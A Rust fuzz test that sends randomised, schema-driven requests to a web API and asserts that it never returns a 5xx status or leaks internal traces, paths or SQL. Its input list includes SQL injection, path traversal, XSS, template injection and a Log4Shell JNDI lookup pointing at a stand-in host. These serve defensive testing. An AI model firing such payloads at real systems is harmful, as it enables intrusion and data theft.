//! Requests of every kind, made from the document by a generator: whatever is asked, the answer is one of
//! ours, and tells nothing of what is inside.

use rand::rngs::StdRng;
use rand::seq::IndexedRandom as _;
use rand::{Rng as _, SeedableRng as _};
use reqwest::Method;
use serde_json::{Value, json};

use crate::document::{Document, Operation};
use crate::person::{Person, send};
use crate::town::Town;

/// Whoever runs the tests may ask for more, or less.
const HOW_MANY: (&str, usize) = ("MARQUEE_TEST_FUZZ", 10_000);

/// So many ask at a time.
const AT_ONCE: usize = 8;

/// What no answer has: traces, paths of sources and machines, statements.
const INSIDE: [&str; 22] = [
    "panicked at",
    "stack backtrace",
    "RUST_BACKTRACE",
    ".rs:",
    "src/",
    "/home/",
    "/root/",
    "/tmp/",
    "/target/",
    ".cargo",
    "SELECT ",
    "INSERT INTO",
    "UPDATE ",
    "DELETE FROM",
    "sqlx",
    "sqlite",
    "SQLITE",
    "postgres",
    "accounts_users",
    "metadata_videos",
    "os error",
    "Os {",
];

/// Text that has broken other programs.
const ODD: [&str; 26] = [
    "",
    " ",
    "\0",
    "\r\n",
    "'",
    "\"",
    "\\",
    "' OR 1=1 --",
    "'; DROP TABLE users; --",
    "%00",
    "%",
    "_",
    "*",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "\u{202e}\u{feff}",
    "\u{1f600}",
    "é",
    "null",
    "NaN",
    "-1",
    "9223372036854775808",
    "title:(a AND b) OR NOT \"c~2\" ^ [a TO z}",
];

/// Makes requests; the same seed makes the same ones.
struct Generator<'a> {
    rng: StdRng,
    document: &'a Document,
    /// Ids that there are.
    ids: Vec<String>,
}

impl Generator<'_> {
    fn pick<'b, T: ?Sized>(&mut self, all: &[&'b T]) -> &'b T {
        all.choose(&mut self.rng).unwrap()
    }

    fn text(&mut self) -> String {
        match self.rng.random_range(0..10) {
            0..=3 => self.pick(&ODD).to_owned(),
            4 => "x".repeat(self.rng.random_range(0..20_000)),
            5 => self.pick(&ODD).repeat(40),
            6 => {
                let length = self.rng.random_range(0..64);
                let mut all = || char::from_u32(self.rng.random_range(0..0x11_0000));
                (0..length).filter_map(|_| all()).collect()
            }
            7 => self.ids.choose(&mut self.rng).cloned().unwrap_or_default(),
            _ => format!("word{}", self.rng.random_range(0..100)),
        }
    }

    fn number(&mut self) -> Value {
        match self.rng.random_range(0..8) {
            0 => json!(0),
            1 => json!(-1),
            2 => json!(i64::MAX),
            3 => json!(u64::MAX),
            4 => json!(1.5),
            5 => json!(1e300),
            _ => json!(self.rng.random_range(0..20_000_000)),
        }
    }

    /// Anything at all.
    fn anything(&mut self, depth: usize) -> Value {
        match self.rng.random_range(0..8) {
            0 => Value::Null,
            1 => json!(self.rng.random::<bool>()),
            2 => self.number(),
            3 if depth < 4 => (0..3).map(|_| self.anything(depth + 1)).collect(),
            4 if depth < 4 => json!({ self.text(): self.anything(depth + 1) }),
            _ => json!(self.text()),
        }
    }

    /// What `schema` describes, or, now and then, something else.
    fn value(&mut self, schema: &Value, depth: usize) -> Value {
        if depth > 6 || self.rng.random_ratio(1, 12) {
            return self.anything(depth);
        }
        let document = self.document;
        let schema = document.resolve(schema);
        if let Some(ways) = schema["oneOf"].as_array() {
            let way = ways.choose(&mut self.rng).unwrap();
            return self.value(way, depth + 1);
        }
        if let Some(names) = schema["enum"].as_array() {
            return names.choose(&mut self.rng).unwrap().clone();
        }
        let kind = match &schema["type"] {
            Value::Array(kinds) => kinds.choose(&mut self.rng).unwrap(),
            kind => kind,
        };
        match kind.as_str().unwrap_or_default() {
            "object" => self.object(schema, depth),
            "array" => {
                let length = *[0, 1, 2, 150].choose(&mut self.rng).unwrap();
                let one = &schema["items"];
                (0..length).map(|_| self.value(one, depth + 2)).collect()
            }
            "integer" | "number" => self.number(),
            "boolean" => json!(self.rng.random::<bool>()),
            "null" => Value::Null,
            _ => json!(self.text()),
        }
    }

    fn object(&mut self, schema: &Value, depth: usize) -> Value {
        let mut made = json!({});
        for (name, property) in self.document.properties(schema) {
            let required = schema["required"].as_array();
            let required = required.is_some_and(|all| all.contains(&json!(name)));
            if self.rng.random_ratio(if required { 19 } else { 8 }, 20) {
                made[name] = self.value(&property, depth + 1);
            }
        }
        made
    }

    fn encoded(&mut self) -> String {
        let text = self.text();
        let text: String = text.chars().take(2_000).collect();
        url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
    }

    fn id(&mut self) -> String {
        if self.rng.random() {
            self.ids.choose(&mut self.rng).unwrap().clone()
        } else {
            self.encoded()
        }
    }

    fn path(&mut self, operation: &Operation) -> String {
        let id = self.id();
        let mut path = operation.path_of(&id);
        let mut between = "?";
        for (name, schema) in &operation.query {
            if self.rng.random_ratio(2, 5) {
                let value = match self.value(schema, 0) {
                    Value::String(text) => text.chars().take(2_000).collect(),
                    value => value.to_string().chars().take(2_000).collect::<String>(),
                };
                let value: String =
                    url::form_urlencoded::byte_serialize(value.as_bytes()).collect();
                path.extend([between, name, "=", &value]);
                between = "&";
            }
        }
        path
    }

    fn request(&mut self, by: &Person, operation: &Operation) -> reqwest::RequestBuilder {
        let path = self.path(operation);
        let methods = [Method::GET, Method::POST, Method::PUT, Method::DELETE];
        let method = if self.rng.random_ratio(1, 40) {
            methods.choose(&mut self.rng).unwrap().clone()
        } else {
            operation.method.clone()
        };
        let mut request = by.request(method, &path);
        if self.rng.random_ratio(1, 10) {
            let names = [
                "if-match",
                "range",
                "accept",
                "x-request-id",
                "traceparent",
                "cookie",
            ];
            let name = *names.choose(&mut self.rng).unwrap();
            let value = self.encoded();
            request = request.header(name, value.chars().take(500).collect::<String>());
        }
        let Some(schema) = &operation.body else {
            return request;
        };
        match self.rng.random_range(0..20) {
            0 => request
                .body(self.text())
                .header("content-type", "application/json"),
            1 => request.json(&self.anything(0)),
            2 => {
                let text = self.value(schema, 0).to_string();
                let cut = text.chars().take(text.len() / 2).collect::<String>();
                request.body(cut).header("content-type", "application/json")
            }
            3 => request
                .body("[".repeat(self.rng.random_range(1..5_000)))
                .header("content-type", "application/json"),
            _ => request.json(&self.value(schema, 0)),
        }
    }
}

/// Asks `how_many` times; how often each class of status was answered.
async fn ask(town: &Town, people: &[Person], seed: u64, how_many: usize) -> [usize; 6] {
    let mut generator = Generator {
        rng: StdRng::seed_from_u64(seed),
        document: &town.document,
        ids: vec![
            town.things.film.clone(),
            town.things.upload.clone(),
            crate::town::id_of(&town.spare).await,
        ],
    };
    // Whoever signs out would be nobody afterwards.
    let mut operations = town.document.operations();
    operations.retain(|one| one.id != "sign_out");
    let data = town.marquee.data().to_str().unwrap();
    let mut classes = [0; 6];
    for _ in 0..how_many {
        let operation = operations.choose(&mut generator.rng).unwrap();
        let by = people.choose(&mut generator.rng).unwrap();
        let request = generator.request(by, operation);
        let shown = format!("{} {request:?}", operation.id);
        let answer = send(request).await;
        assert!(answer.status < 500, "{shown}: {answer:?}");
        if answer.status >= 400 {
            for inside in INSIDE.iter().chain(&[data]) {
                assert!(
                    !answer.text.contains(inside),
                    "{inside} in {shown}: {answer:?}"
                );
            }
        }
        classes[usize::from(answer.status / 100)] += 1;
    }
    classes
}

#[tokio::test]
async fn whatever_is_asked_is_answered_and_nothing_of_the_inside_is_told() {
    let town = Town::quick().await;
    let scopes = ["read", "upload", "edit"];
    let mut people = vec![
        town.anonymous.clone(),
        town.admin.clone(),
        town.owner.clone(),
    ];
    for person in [&town.admin, &town.owner, &town.moderator] {
        let (token, _) = town.api_token(person, &scopes).await;
        people.push(person.with_token(&token));
    }
    let how_many = system_tests::times(HOW_MANY.0, HOW_MANY.1);
    let seeds = (0..).take(AT_ONCE);
    let asked = seeds.map(|seed| ask(&town, &people, seed, how_many / AT_ONCE));
    let all = futures_util::future::join_all(asked).await;
    let mut classes = [0; 6];
    for (class, count) in all.into_iter().flat_map(|one| one.into_iter().enumerate()) {
        classes[class] += count;
    }
    let answered: usize = classes.iter().sum();
    assert_eq!(answered, how_many / AT_ONCE * AT_ONCE);
    assert!(classes[2] * 20 > answered, "some are right: {classes:?}");
    crate::town::tell(&format!("{answered} requests: {classes:?}"));
    town.close().await;
}
